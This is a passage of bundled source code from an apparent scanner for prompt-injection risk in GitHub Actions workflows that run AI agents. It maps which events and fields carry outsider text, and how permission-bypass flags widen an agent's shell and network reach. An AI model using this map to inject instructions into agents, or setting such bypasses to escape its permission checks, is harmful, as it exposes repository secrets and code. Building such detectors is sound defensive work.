pull_request_review_comment, discussion, discussion_comment] }\n  - { path: github.event.commits, author: commit, events: [push] }\n  - { path: github.event.head_commit, author: commit, events: [push] }\n  - { path: github.event.pages, author: actor, events: [gollum] }\n  - { path: github.event.release, author: actor, events: [release] }\n  - { path: github.event.workflow_run, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.workflow_run.head_commit, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.merge_group, author: pull_request, events: [merge_group] }\n  - { path: github.event.check_suite, author: pull_request, events: [check_suite] }\n  - { path: github.event.client_payload, author: payload, events: [repository_dispatch] }\n\n# Third-party actions whose outputs carry outsider text they fetched or computed (CodeQL models action\n# outputs the same way). `outputs: ['*']` means every output. Matched like agent actions: an\n# `owner/repo[/path]` prefix, case-insensitive, any ref.\nactionOutputs:\n  - { uses: actions-cool/issues-helper, outputs: ['*'], kind: body, author: issue, what: \"the issue's title, body or comments fetched by actions-cool/issues-helper\" }\n  - { uses: peter-evans/find-comment, outputs: [comment-body, comment-author], kind: body, author: comment, what: \"a comment's body found by peter-evans/find-comment\" }\n  - { uses: khan/pull-request-comment-trigger, outputs: [comment_body], kind: body, author: comment, what: \"the triggering comment's body\" }\n  - { uses: 8bitjonny/gh-get-current-pr, outputs: [pr, pr_title, pr_body], kind: body, author: pull_request, what: \"the pull request's title and body fetched by gh-get-current-pr\" }\n  - { uses: actions-ecosystem/action-get-merged-pull-request, outputs: [title, body, labels], kind: body, author: pull_request, what: \"a merged pull request's title and body\" }\n  - { uses: tj-actions/changed-files, outputs: ['*'], kind: path, author: pull_request, what: \"file names the pull request changed (tj-actions/changed-files)\" }\n  - { uses: jitterbit/get-changed-files, outputs: ['*'], kind: path, author: pull_request, what: \"file names the pull request changed (jitterbit/get-changed-files)\" }\n  - { uses: ana06/get-changed-files, outputs: ['*'], kind: path, author: pull_request, what: \"file names the pull request changed (Ana06/get-changed-files)\" }\n  - { uses: dorny/paths-filter, outputs: ['*'], kind: path, author: pull_request, what: \"file names the pull request changed (dorny/paths-filter)\" }\n  - { uses: tj-actions/branch-names, outputs: ['*'], kind: branch, author: pull_request, what: \"the pull request's branch name (tj-actions/branch-names)\" }\n  - { uses: xt0rted/pull-request-comment-branch, outputs: [head_ref, base_ref], kind: branch, author: pull_request, what: \"the pull request's branch name (pull-request-comment-branch)\" }\n  - { uses: gotson/pull-request-comment-branch, outputs: [head_ref, base_ref], kind: branch, author: pull_request, what: \"the pull request's branch name (pull-request-comment-branch)\" }\n  - { uses: octokit/request-action, outputs: [data], kind: payload, author: payload, what: \"a GitHub API response (octokit/request-action)\" }\n  - { uses: octokit/graphql-action, outputs: [data], kind: payload, author: payload, what: \"a GitHub GraphQL response (octokit/graphql-action)\" }\n";

// rules/triggers.yml
var triggers_default = "# Who can fire each workflow event (\"Events that trigger workflows\", docs.github.com), and which\n# activity types only people with triage/write access can cause.\n# Shape: TriggersFile in src/analysis/ruleTypes.ts.\n#   anyone               any GitHub user; the run can hold secrets and a write token\n#   anyone-unprivileged  any user, but runs from forks get no secrets and a read-only token\n#   maintainers          needs write (or triage/admin) access, or a token that has it\n#   callers              whoever calls the reusable workflow\n#   upstream             whoever could cause the upstream event (another workflow, an app's check)\n# `maintainerOnlyTypes`: when a workflow's `types:` lists only these, the trigger is maintainer-only.\n# Types an outsider can cause on their own issue/PR/discussion/comment are deliberately absent: authors\n# can open, edit, close and reopen what they wrote, and delete their own comments.\n\ntriggers:\n  - event: branch_protection_rule\n    who: maintainers   # repository admin\n\n  # Created by apps (and GitHub Actions) for commits, including commits of fork pull requests; an\n  # outsider who opens a PR can make a third-party CI app create or complete check runs/suites.\n  - event: check_run\n    who: upstream\n    note: Check runs are created by apps for PR head commits, including fork PRs.\n  - event: check_suite\n    who: upstream\n    note: GitHub does not fire check_suite for suites created by GitHub Actions; other apps' suites can come from fork PRs.\n\n  - event: commit_comment\n    who: anyone        # anyone can comment on a commit in a public repository\n\n  - event: create\n    who: maintainers   # branch or tag creation needs write access\n  - event: delete\n    who: maintainers\n  - event: deployment\n    who: maintainers\n  - event: deployment_status\n    who: maintainers\n\n  - event: discussion\n    who: anyone\n    # Authors can create, edit, close, reopen, delete and mark an answer in their own Q&A discussion.\n    maintainerOnlyTypes: [transferred, pinned, unpinned, labeled, unlabeled, locked, unlocked, category_changed]\n  - event: discussion_comment\n    who: anyone        # created, edited, deleted: all by the comment's author\n\n  - event: fork\n    who: anyone\n  - event: gollum\n    who: anyone\n    note: Only when the wiki lets any GitHub user edit (\"Restrict editing to collaborators only\" unchecked).\n\n  - event: issue_comment\n    who: anyone        # created, edited, deleted: the commenter. Also fires for comments on pull requests.\n  - event: issues\n    who: anyone\n    # Non-collaborators cannot label, assign, milestone, pin, transfer, lock, delete or set issue types.\n    # `closed` and `reopened` stay outsider-reachable: authors close and reopen their own issues.\n    maintainerOnlyTypes: [labeled, unlabeled, assigned, unassigned, milestoned, demilestoned, pinned, unpinned, transferred, locked, unlocked, deleted, typed, untyped]\n\n  - event: label\n    who: maintainers   # repository labels\n  # Adding a PR to a merge queue needs write access; the merge-group commit message quotes the PR title.\n  - event: merge_group\n    who: maintainers\n    note: The head commit message carries the queued PR's title (outsider text).\n  - event: milestone\n    who: maintainers\n  - event: page_build\n    who: maintainers\n  # Classic Projects (sunset); editing a project needs write access.\n  - event: project\n    who: maintainers\n  - event: project_card\n    who: maintainers\n  - event: project_column\n    who: maintainers\n  - event: public\n    who: maintainers   # admin makes the repository public\n\n  # Fork PRs run with a read-only token and no secrets (unless the repository opts in to sending them).\n  - event: pull_request\n    who: anyone-unprivileged\n    # Labels, assignees, reviewers, milestones, locks, auto-merge and the merge queue need triage/write;\n    # opened, edited, synchronize, reopened, closed, ready_for_review, converted_to_draft are the author's.\n    maintainerOnlyTypes: [labeled, unlabeled, assigned, unassigned, review_requested, review_request_removed, milestoned, demilestoned, locked, unlocked, auto_merge_enabled, auto_merge_disabled, enqueued, dequeued]\n  # Anyone can review a PR in a public repository. Runs from fork PRs are unprivileged, but an outsider's\n  # review of a PR whose head is in the base repository runs privileged, so: anyone.\n  - event: pull_request_review\n    who: anyone\n    maintainerOnlyTypes: [dismissed]\n  - event: pull_request_review_comment\n    who: anyone        # created, edited, deleted: the commenter (same fork caveat as pull_request_review)\n  # Runs in the base repository's context with secrets and a write token, for fork PRs too.\n  - event: pull_request_target\n    who: anyone\n    maintainerOnlyTypes: [labeled, unlabeled, assigned, unassigned, review_requested, review_request_removed, milestoned, demilestoned, locked, unlocked, auto_merge_enabled, auto_merge_disabled, enqueued, dequeued]\n\n  # Only writers push, but merged PRs bring outsiders' commit messages, author names and file paths.\n  - event: push\n    who: maintainers\n    note: Commit messages, author names/emails and file paths in the payload can be outsiders' (merged PRs).\n  - event: registry_package\n    who: maintainers\n  - event: release\n    who: maintainers\n    note: Generated release notes quote outsiders' PR titles.\n  # Needs a token with write access, but client_payload usually forwards someone else's text.\n  - event: repository_dispatch\n    who: maintainers\n    note: client_payload is treated as outsider-controlled.\n  # The schedule is the maintainers'; what the job reads (open issues, PR bodies) may not be.\n  - event: schedule\n    who: maintainers\n  # Commit statuses come from apps and CI services, including for fork PR commits.\n  - event: status\n    who: upstream\n  - event: watch\n    who: anyone        # starring\n  - event: workflow_call\n    who: callers\n  - event: workflow_dispatch\n    who: maintainers   # needs write access; inputs are the dispatcher's own text\n  - event: workflow_run\n    who: upstream\n    note: Privileged even when the upstream run came from a fork PR (head_branch, display_title are the PR author's).\n  - event: image_version\n    who: maintainers   # custom runner images\n";

// src/analysis/rulesData.ts
var PROVIDER_IDS = ["anthropic", "openai", "gemini", "github-models", "openrouter"];
var SOURCE_KINDS = ["title", "body", "branch", "commit message", "email", "name", "payload", "path", "url", "code"];
var SOURCE_AUTHORS = ["actor", "issue", "comment", "pull_request", "review", "discussion", "commit", "workflow_run", "payload"];
var CONFIDENCE = ["V", "D", "3P", "U"];
var RuleDataError = class extends Error {
  constructor(file, line, column, detail) {
    super(`${file}:${line}:${column}: ${detail}`);
    this.file = file;
    this.line = line;
    this.column = column;
    this.detail = detail;
    this.name = "RuleDataError";
  }
  file;
  line;
  column;
  detail;
};
var str = (extra2 = {}) => ({ t: "string", nonEmpty: true, ...extra2 });
var strList = (extra2 = {}, nonEmpty = false) => ({ t: "array", of: str(extra2), unique: true, nonEmpty });
var req = (spec) => ({ spec, required: true });
var opt = (spec) => ({ spec });
var ID = /^[a-z0-9][a-z0-9-]*$/;
var USES = /^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(\/[A-Za-z0-9_.\/-]+)?$/;
var ENV_NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
var FLAG = /^--?[A-Za-z0-9?][A-Za-z0-9_-]*(=.+)?$/;
var FLAG_OR_ENV = /^(--?[A-Za-z0-9?][A-Za-z0-9_-]*|[A-Za-z_][A-Za-z0-9_]*)$/;
var EVENT = /^[a-z_]+$/;
var CONTEXT_PATH = /^[a-z_][a-z0-9_-]*(\.([a-z0-9_-]+|\*))*$/;
var toolReachSpec = {
  t: "object",
  fields: {
    shell: req(str({ enum: ["full", "restricted", "none"] })),
    network: req({ t: "boolean" }),
    writesFiles: req({ t: "boolean" })
  }
};
var grantsSpec = {
  t: "object",
  atLeastOne: true,
  fields: {
    shell: opt(str({ enum: ["full", "restricted", "none"] })),
    network: opt({ t: "boolean" }),
    writesFiles: opt({ t: "boolean" })
  }
};
var actionWidenerSpec = {
  t: "object",
  fields: { input: req(str()), pattern: req(str({ regex: true })), grants: req(grantsSpec) }
};
var cliWidenerSpec = {
  t: "object",
  fields: {
    input: req(str({ format: FLAG_OR_ENV, formatHint: "a flag (`--name`) or an environment variable name" })),
    pattern: req(str({ regex: true })),
    grants: req(grantsSpec)
  }
};
var actionSpec = {
  t: "object",
  fields: {
    id: req(str({ format: ID, formatHint: "lowercase letters, digits and dashes" })),
    name: req(str()),
    uses: req(strList({ format: USES, formatHint: "`owner/repo` or `owner/repo/path`, without `@ref`" }, true)),
    cli: opt(str()),
    promptInputs: req(strList()),
    promptFileInputs: opt(strList()),
    configInputs: opt(strList()),
    keyInputs: opt(strList()),
    tokenInputs: opt(strList()),
    keyHandling: req(str({ enum: ["process", "proxy"] })),
    keyWideners: opt({ t: "array", of: { t: "object", fields: { input: req(str()), pattern: req(str({ regex: true })) } } }),
    gate: req({
      t: "object",
      fields: {
        kind: req(str({ enum: ["none", "write-access"] })),
        skippedOn: opt(strList({ format: EVENT })),
        wideners: opt({
          t: "array",
          of: {
            t: "object",
            fields: {
              input: req(str()),
              effect: req(str({ enum: ["anyone", "bots"] })),
              requiresInput: opt(str()),
              enablingValues: opt(strList({}, true))
            }
          }
        })
      }
    }),
    readsThread: req(str({ enum: ["always", "never", "without-prompt"] })),
    agentModeInputs: opt(strList({}, true)),
    defaults: req(toolReachSpec),
    toolWideners: opt({ t: "array", of: actionWidenerSpec }),
    toolNarrowers: opt({ t: "array", of: actionWidenerSpec }),
    outputs: opt(strList()),
    leakInputs: opt(strList()),
    provider: opt(str({ enum: PROVIDER_IDS })),
    confidence: opt(str({ enum: CONFIDENCE })),
    notes: opt(str())
  }
};
var cliSpec = {
  t: "object",
  fields: {
    id: req(str({ format: ID, formatHint: "lowercase letters, digits and dashes" })),
    name: req(str()),
    commands: req(strList({ format: /^[A-Za-z0-9_.+-]+$/, formatHint: "a command name without a path" })),
    packages: opt(strList({ format: /^(@[a-z0-9_.-]+\/)?[A-Za-z0-9_.-]+$/, formatHint: "an npm or PyPI package name without a version" })),
    modules: opt(strList({ format: /^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*$/, formatHint: "a dotted Python module name" })),
    subcommands: opt(strList({ format: /^[A-Za-z0-9_.:-]+( [A-Za-z0-9_.:-]+)*$/, formatHint: "words separated by single spaces" }, true)),
    requiredFlags: opt(strList({ format: FLAG, formatHint: "a flag starting with `-`" }, true)),
    nonRunSubcommands: opt(strList({ format: /^[A-Za-z0-9_.:-]+( [A-Za-z0-9_.:-]+)*$/, formatHint: "words separated by single spaces" })),
    infoFlags: opt(strList({ format: FLAG, formatHint: "a flag starting with `-`" })),
    valueFlags: opt(strList({ format: FLAG, formatHint: "a flag starting with `-`" })),
    bypassFlags: req(strList({ format: FLAG, formatHint: "a flag starting with `-`, optionally `=value`" })),
    bypassEnv: opt({
      t: "array",
      of: { t: "object", fields: { name: req(str({ format: ENV_NAME, formatHint: "an environment variable name" })), values: req(strList({}, true)) } }
    }),
    toolFlags: opt(strList({ format: FLAG, formatHint: "a flag starting with `-`" })),
    toolWideners: opt({ t: "array", of: cliWidenerSpec }),
    toolNarrowers: opt({ t: "array", of: cliWidenerSpec }),
    defaults: req(toolReachSpec),
    keyEnv: req(strList({ format: ENV_NAME, formatHint: "an environment variable name" })),
    baseUrlEnv: opt(strList({ format: ENV_NAME, formatHint: "an environment variable name" })),
    instructionFiles: req(strList()),
    provider: opt(str({ enum: PROVIDER_IDS })),
    confidence: opt(str({ enum: CONFIDENCE })),
    notes: opt(str())
  }
};
var agentsSpec = {
  t: "object",
  fields: {
    actions: req({ t: "array", of: actionSpec, nonEmpty: true }),
    clis: req({ t: "array", of: cliSpec, nonEmpty: true })
  }
};
var eventsField = opt(strList({ format: EVENT, formatHint: "an event name" }, true));
var sourcesSpec = {
  t: "object",
  fields: {
    contexts: req({
      t: "array",
      nonEmpty: true,
      of: {
        t: "object",
        fields: {
          path: req(str({ format: CONTEXT_PATH, formatHint: "a lowercased dotted context path (`*` for one segment)" })),
          kind: req(str({ enum: SOURCE_KINDS })),
          author: req(str({ enum: SOURCE_AUTHORS })),
          events: eventsField
        }
      }
    }),
    wholeObjects: req({
      t: "array",
      nonEmpty: true,
      of: {
        t: "object",
        fields: {
          path: req(str({ format: CONTEXT_PATH, formatHint: "a lowercased dotted context path" })),
          author: req(str({ enum: SOURCE_AUTHORS })),
          events: eventsField
        }
      }
    }),
    actionOutputs: opt({
      t: "array",
      of: {
        t: "object",
        fields: {
          uses: req(str({ format: USES, formatHint: "owner/repo[/path]" })),
          outputs: req(strList({}, true)),
          kind: req(str({ enum: SOURCE_KINDS })),
          author: req(str({ enum: SOURCE_AUTHORS })),
          what: req(str())
        }
      }
    })
  }
};
var triggersSpec = {
  t: "object",
  fields: {
    triggers: req({
      t: "array",
      nonEmpty: true,
      of: {
        t: "object",
        fields: {
          event: req(str({ format: EVENT, formatHint: "an event name" })),
          who: req(str({ enum: ["anyone", "anyone-unprivileged", "maintainers", "callers", "upstream"] })),
          maintainerOnlyTypes: opt(strList({ format: /^[a-z_]+$/, formatHint: "an activity type" }, true)),
          note: opt(str())
        }
      }
    })
  }
};
var origins = /* @__PURE__ */ new WeakMap();
var Ctx = class {
  constructor(file) {
    this.file = file;
  }
  file;
  lines = new import_yaml5.LineCounter();
  doc;
  fail(node, label, message) {
    const offset = node?.range?.[0] ?? 0;
    const pos = this.lines.linePos(offset);
    throw new RuleDataError(this.file, pos.line, pos.col, label ? `${label}: ${message}` : message);
  }
};
function describe(node) {
  if (node === null) return "nothing";
  if ((0, import_yaml5.isMap)(node)) return "a mapping";
  if ((0, import_yaml5.isSeq)(node)) return "a list";
  if ((0, import_yaml5.isScalar)(node)) {
    const v = node.value;
    if (v === null) return "null";
    if (typeof v === "string") return `"${v.length > 40 ? `${v.slice(0, 40)}...` : v}"`;
    return `${typeof v} ${String(v)}`;
  }
  return "an unsupported node";
}
function convert(ctx, raw, spec, label, fallback) {
  const node = raw && (0, import_yaml5.isAlias)(raw) ? raw.resolve(ctx.doc) ?? null : raw;
  const at = node ?? fallback;
  switch (spec.t) {
    case "string": {
      if (!node || !(0, import_yaml5.isScalar)(node) || typeof node.value !== "string") ctx.fail(at, label, `expected a string, got ${describe(node)}`);
      const value = node.value;
      if (spec.nonEmpty && !value.trim()) ctx.fail(at, label, "must not be empty");
      if (spec.enum && !spec.enum.includes(value)) ctx.fail(at, label, `expected one of ${spec.enum.map((e) => `"${e}"`).join(", ")}; got "${value}"`);
      if (spec.format && !spec.format.test(value)) ctx.fail(at, label, `"${value}" is not ${spec.formatHint ?? "well formed"}`);
      if (spec.regex) {
        const problem = regexProblem(value);
        if (problem) ctx.fail(at, label, problem);
      }
      return value;
    }
    case "boolean": {
      if (!node || !(0, import_yaml5.isScalar)(node) || typeof node.value !== "boolean") ctx.fail(at, label, `expected true or false, got ${describe(node)}`);
      return node.value;
    }
    case "array": {
      if (!node || !(0, import_yaml5.isSeq)(node)) ctx.fail(at, label, `expected a list, got ${describe(node)}`);
      if (spec.nonEmpty && node.items.length === 0) ctx.fail(node, label, "must not be empty");
      const out = [];
      const seen = /* @__PURE__ */ new Set();
      node.items.forEach((item, i) => {
        const itemNode = item;
        const value = convert(ctx, itemNode, spec.of, `${label}[${i}]${idSuffix(itemNode)}`, node);
        if (spec.unique && typeof value === "string") {
          if (seen.has(value)) ctx.fail(itemNode ?? node, `${label}[${i}]`, `duplicate entry "${value}"`);
          seen.add(value);
        }
        out.push(value);
      });
      return out;
    }
    case "object": {
      if (!node || !(0, import_yaml5.isMap)(node)) ctx.fail(at, label, `expected a mapping, got ${describe(node)}`);
      const out = {};
      const fields = /* @__PURE__ */ new Map();
      for (const pair of node.items) {
        const keyNode = pair.key;
        const key2 = keyNode && (0, import_yaml5.isScalar)(keyNode) ? keyNode.value : void 0;
        if (typeof key2 !== "string") ctx.fail(keyNode ?? node, label, `expected a string key, got ${describe(keyNode)}`);
        const field = spec.fields[key2];
        const where = label ? `${label}.${key2}` : key2;
        if (!field) {
          const known = Object.keys(spec.fields).join(", ");
          ctx.fail(keyNode, label || key2, `unknown key "${key2}" (known: ${known})`);
        }
        const valueNode = pair.value;
        out[key2] = convert(ctx, valueNode, field.spec, where, keyNode);
        fields.set(key2, valueNode ?? keyNode);
      }
      for (const [key2, field] of Object.entries(spec.fields)) {
        if (field.required && !(key2 in out)) ctx.fail(node, label, `missing required key "${key2}"`);
      }
      if (spec.atLeastOne && Object.keys(out).length === 0) ctx.fail(node, label, "must set at least one field");
      origins.set(out, { ctx, node, fields, label });
      return out;
    }
  }
}
function idSuffix(node) {
  if (!node || !(0, import_yaml5.isMap)(node)) return "";
  for (const key2 of ["id", "event", "path", "input", "name"]) {
    const v = node.get(key2);
    if (typeof v === "string") return ` (${v})`;
  }
  return "";
}
function failAt(obj2, field, message) {
  const origin = origins.get(obj2);
  if (!origin) throw new Error(message);
  const node = field && origin.fields.get(field) || origin.node;
  const label = field ? `${origin.label}.${field}` : origin.label;
  return origin.ctx.fail(node, label, message);
}
function parseWith(text, fileName, spec) {
  const ctx = new Ctx(fileName);
  const doc = (0, import_yaml5.parseDocument)(text, { lineCounter: ctx.lines, prettyErrors: false, uniqueKeys: true });
  ctx.doc = doc;
  const err = doc.errors[0];
  if (err) {
    const pos = ctx.lines.linePos(err.pos[0]);
    const firstLine = err.message.split("\n")[0];
    throw new RuleDataError(fileName, pos.line, pos.col, `YAML ${firstLine}`);
  }
  return convert(ctx, doc.contents, spec, "", null);
}
function regexProblem(source) {
  try {
    new RegExp(source, "i");
  } catch (e) {
    return `invalid regular expression /${source}/: ${e.message}`;
  }
  if (hasNestedQuantifier(source)) return `regular expression /${source}/ repeats a group that itself contains a quantifier (catastrophic backtracking risk)`;
  return null;
}
function hasNestedQuantifier(src) {
  const stack = [];
  let lastGroupHadQuantifier = false;
  let inClass = false;
  for (let i = 0; i < src.length; i++) {
    const c = src[i];
    if (c === "\\") {
      i++;
      lastGroupHadQuantifier = false;
      continue;
    }
    if (inClass) {
      if (c === "]") inClass = false;
      continue;
    }
    if (c === "[") {
      inClass = true;
      lastGroupHadQuantifier = false;
      continue;
    }
    if (c === "(") {
      stack.push({ quantified: false });
      lastGroupHadQuantifier = false;
      continue;
    }
    if (c === ")") {
      const group = stack.pop();
      lastGroupHadQuantifier = !!group?.quantified;
      if (group?.quantified && stack.length) stack[stack.length - 1].quantified = true;
      continue;
    }
    if (c === "*" || c === "+" || c === "?" || c === "{") {
      const isQuantifier = c !== "{" || /^\{\d+(,\d*)?\}/.test(src.slice(i, i + 12));
      if (c === "?" && (src[i - 1] === "(" || src[i - 1] === "*" || src[i - 1] === "+" || src[i - 1] === "?" || src[i - 1] === "}")) continue;
      if (!isQuantifier) continue;
      const unbounded = c === "*" || c === "+" || c === "{" && /^\{\d+,\d*\}/.test(src.slice(i, i + 12));
      if (src[i - 1] === ")" && lastGroupHadQuantifier && unbounded) return true;
      if (stack.length) stack[stack.length - 1].quantified = true;
      lastGroupHadQuantifier = false;
      continue;
    }
    lastGroupHadQuantifier = false;
  }
  return false;
}
function parseAgentsFile(text, fileName = "rules/agents.yml") {
  const file = parseWith(text, fileName, agentsSpec);
  const ids = /* @__PURE__ */ new Map();
  const prefixes = /* @__PURE__ */ new Map();
  for (const action of file.actions) {
    if (ids.has(action.id)) failAt(action, "id", `duplicate id "${action.id}"`);
    ids.set(action.id, action);
    for (const u of action.uses) {
      const key2 = u.toLowerCase();
      const other = prefixes.get(key2);
      if (other) failAt(action, "uses", `"${u}" is already listed by "${other}"`);
      prefixes.set(key2, action.id);
    }
    for (const w of action.gate.wideners ?? []) {
      if (w.requiresInput && w.requiresInput === w.input) failAt(w, "requiresInput", "a widener cannot require itself");
    }
    if (action.agentModeInputs && action.readsThread !== "without-prompt") failAt(action, "agentModeInputs", "only meaningful with readsThread: without-prompt");
    if (action.keyWideners && action.keyHandling !== "proxy") failAt(action, "keyWideners", "only meaningful with keyHandling: proxy");
  }
  const cliIds = /* @__PURE__ */ new Set();
  const commands = /* @__PURE__ */ new Map();
  for (const cli of file.clis) {
    if (cliIds.has(cli.id) || ids.has(cli.id)) failAt(cli, "id", `duplicate id "${cli.id}"`);
    cliIds.add(cli.id);
    if (!cli.commands.length && !cli.modules?.length) failAt(cli, "commands", "needs at least one command or a `modules` entry");
    for (const c of cli.commands) {
      const other = commands.get(c);
      if (other) failAt(cli, "commands", `command "${c}" is already claimed by "${other}"`);
      commands.set(c, cli.id);
    }
  }
  for (const action of file.actions) {
    if (action.cli && !cliIds.has(action.cli)) failAt(action, "cli", `unknown cli "${action.cli}" (not an id under clis)`);
  }
  return file;
}
function parseSourcesFile(text, fileName = "rules/sources.yml") {
  const file = parseWith(text, fileName, sourcesSpec);
  const seen = /* @__PURE__ */ new Map();
  const check = (entry) => {
    const events = entry.events ?? ["*"];
    const got = seen.get(entry.path) ?? /* @__PURE__ */ new Set();
    for (const e of events) {
      if (got.has(e) || got.size && (e === "*" || got.has("*"))) failAt(entry, "path", `"${entry.path}" is listed twice for event ${e === "*" ? "(any)" : e}`);
      got.add(e);
    }
    seen.set(entry.path, got);
  };
  file.contexts.forEach(check);
  seen.clear();
  file.wholeObjects.forEach(check);
  return file;
}
function parseTriggersFile(text, fileName = "rules/triggers.yml") {
  const file = parseWith(text, fileName, triggersSpec);
  const seen = /* @__PURE__ */ new Set();
  for (const t of file.triggers) {
    if (seen.has(t.event)) failAt(t, "event", `duplicate event "${t.event}"`);
    seen.add(t.event);
  }
  return file;
}
function checkRuleSet(rules) {
  const events = new Set(rules.triggers.triggers.map((t) => t.event));
  const checkEvents = (obj2, field, list) => {
    for (const e of list ?? []) if (!events.has(e)) failAt(obj2, field, `unknown event "${e}" (not in triggers.yml)`);
  };
  for (const action of rules.agents.actions) checkEvents(action.gate, "skippedOn", action.gate.skippedOn);
  for (const c of rules.sources.contexts) checkEvents(c, "events", c.events);
  for (const w of rules.sources.wholeObjects) checkEvents(w, "events", w.events);
}
function parseRuleSet(texts) {
  const rules = {
    agents: parseAgentsFile(texts.agents),
    sources: parseSourcesFile(texts.sources),
    triggers: parseTriggersFile(texts.triggers)
  };
  checkRuleSet(rules);
  return rules;
}
var cached;
function loadRules() {
  if (!cached) cached = parseRuleSet({ agents: agents_default, sources: sources_default, triggers: triggers_default });
  return cached;
}

// src/analysis/agents.ts
var index;
var extra = { actions: [], clis: [] };
function useExtraAgents(agents) {
  if (agents.actions === extra.actions && agents.clis === extra.clis) return;
  extra = agents;
  index = void 0;
  matchCache.clear();
}
function agentIndex() {
  if (index) return index;
  const shipped = loadRules().agents;
  const agents = { actions: [...extra.actions, ...shipped.actions], clis: [...extra.clis, ...shipped.clis] };
  const actionsByRepo = /* @__PURE__ */ new Map();
  for (const action of agents.actions) {
    for (const u of action.uses) {
      const prefix = u.toLowerCase();
      const repo = prefix.split("/").slice(0, 2).join("/");
      const list = actionsByRepo.get(repo) ?? [];
      list.push({ prefix, action });
      actionsByRepo.set(repo, list);
    }
  }
  for (const list of actionsByRepo.values()) list.sort((a, b) => b.prefix.length - a.prefix.length);
  const byCommand = /* @__PURE__ */ new Map();
  const byPackage = /* @__PURE__ */ new Map();
  const modules = [];
  const clis = /* @__PURE__ */ new Map();
  for (const cli of agents.clis) {
    clis.set(cli.id, cli);
    for (const c of cli.commands) byCommand.set(c, cli);
    for (const p of cli.packages ?? []) byPackage.set(p.toLowerCase(), cli);
    for (const m of cli.modules ?? []) modules.push({ module: m, cli });
  }
  index = { actionsByRepo, byCommand, byPackage, modules, clis };
  return index;
}
var matchCache = /* @__PURE__ */ new Map();
function matchAgentAction(uses) {
  const known = matchCache.get(uses);
  if (known !== void 0) return known;
  const found = matchAgentActionUncached(uses);
  if (matchCache.size > 1e4) matchCache.clear();
  matchCache.set(uses, found);
  return found;
}
function matchAgentActionUncached(uses) {
  const text = uses.trim();
  if (!text || text.startsWith("./") || text.startsWith("../") || /^docker:\/\//i.test(text)) return null;
  const at = text.indexOf("@");
  const path14 = (at >= 0 ? text.slice(0, at) : text).replace(/\/+$/, "").toLowerCase();
  const parts = path14.split("/");
  if (parts.length < 2) return null;
  const candidates = agentIndex().actionsByRepo.get(`${parts[0]}/${parts[1]}`);
  if (!candidates) return null;
  for (const { prefix, action } of candidates) {
    if (path14 === prefix || path14.startsWith(`${prefix}/`)) return action;
  }
  return null;
}
function regexFor(pattern) {
  let re = regexCache.get(pattern);
  if (!re) {
    re = new RegExp(pattern, "i");
    regexCache.set(pattern, re);
  }
  return re;
}
var regexCache = /* @__PURE__ */ new Map();
var SHELL_ORDER = { none: 0, restricted: 1, full: 2 };
function widen(reach, grants) {
  if (grants.shell && SHELL_ORDER[grants.shell] > SHELL_ORDER[reach.shell]) reach.shell = grants.shell;
  if (grants.network) reach.network = true;
  if (grants.writesFiles) reach.writesFiles = true;
}
function narrow(reach, grants) {
  if (grants.shell && SHELL_ORDER[grants.shell] < SHELL_ORDER[reach.shell]) reach.shell = grants.shell;
  if (grants.network === false) reach.network = false;
  if (grants.writesFiles === false) reach.writesFiles = false;
}
function inputValue(inputs, name) {
  if (name in inputs) return inputs[name];
  const lower = name.toLowerCase();
  for (const [k, v] of Object.entries(inputs)) if (k.toLowerCase() === lower) return v;
  return void 0;
}
function actionToolReach(action, inputs) {
  const reach = { ...action.defaults };
  const apply = (list, fn) => {
    for (const w of list ?? []) {
      const value = inputValue(inputs, w.input);
      if (value !== void 0 && regexFor(w.pattern).test(value)) fn(reach, w.grants);
    }
  };
  apply(action.toolWideners, widen);
  apply(action.toolNarrowers, narrow);
  return reach;
}
function actionKeyInProcess(action, inputs) {
  if (action.keyHandling === "process") return true;
  return (action.keyWideners ?? []).some((w) => {
    const value = inputValue(inputs, w.input);
    return value !== void 0 && regexFor(w.pattern).test(value);
  });
}
function actionReadsThread(action, inputs) {
  if (action.readsThread === "always") return true;
  if (action.readsThread === "never") return false;
  const modeInputs = action.agentModeInputs ?? action.promptInputs;
  return !modeInputs.some((n) => (inputValue(inputs, n) ?? "").trim() !== "");
}
function cliToolReach(inv, env = {}) {
  const cli = inv.cli;
  const reach = { ...cli.defaults };
  const allEnv = { ...env, ...inv.exportedEnv, ...inv.envAssignments };
  const bypass = inv.bypass.length > 0 || bypassFromEnv(cli, allEnv).length > 0;
  if (bypass) widen(reach, { shell: "full", network: true, writesFiles: true });
  const flags = parseArgs(cli, inv.args).flags;
  const apply = (list, fn) => {
    for (const w of list ?? []) {
      const re = regexFor(w.pattern);
      if (w.input.startsWith("-")) {
        for (const f of flags) if (f.name === w.input && re.test(f.value ?? "")) fn(reach, w.grants);
      } else {
        const value = allEnv[w.input];
        if (value !== void 0 && re.test(value)) fn(reach, w.grants);
      }
    }
  };
  apply(cli.toolWideners, widen);
  if (!bypass) apply(cli.toolNarrowers, narrow);
  return reach;
}
function bypassFromEnv(cli, env) {
  const out = [];
  for (const b of cli.bypassEnv ?? []) {
    const value = env[b.name];
    if (value !== void 0 && b.values.some((v) => v.toLowerCase() === value.trim().toLowerCase())) out.push(`${b.name}=${value.trim()}`);
  }
  return out;
}
function flagTakesValue(cli, name) {
  return !!(cli.valueFlags?.includes(name) || cli.toolFlags?.includes(name) || cli.bypassFlags.some((b) => b.startsWith(`${name}=`)));
}
function parseArgs(cli, args) {
  const flags = [];
  const positionals = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (a === "--") {
      positionals.push(...args.slice(i + 1));
      break;
    }
    if (a.length > 1 && a.startsWith("-") && !/^-\d/.test(a)) {
      const eq = a.startsWith("--") ? a.indexOf("=") : -1;
      if (eq > 0) {
        flags.push({ name: a.slice(0, eq), value: a.slice(eq + 1) });
      } else if (flagTakesValue(cli, a) && i + 1 < args.length) {
        flags.push({ name: a, value: args[i + 1] });
        i++;
      } else {
        flags.push({ name: a });
      }
      continue;
    }
    positionals.push(a);
  }
  return { flags, positionals };
}
function startsWithWords(positionals, entry) {
  const words = entry.split(" ");
  return words.every((w, i) => positionals[i] === w);
}
function classifyInvocation(cli, args, env, exported) {
  const { flags, positionals } = parseArgs(cli, args);
  if (cli.infoFlags && flags.some((f) => cli.infoFlags.includes(f.name))) return null;
